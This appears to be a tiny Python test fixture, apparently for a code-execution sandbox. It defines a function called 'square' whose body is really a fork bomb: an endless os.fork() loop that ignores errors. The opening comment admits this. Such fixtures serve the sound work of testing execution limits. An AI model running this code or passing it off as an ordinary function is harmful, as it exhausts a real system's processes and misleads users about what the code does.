# Forks without end.
# slow: yes
# %% square
def square(x):
    import os

    while True:
        try:
            os.fork()
        except OSError:
            pass
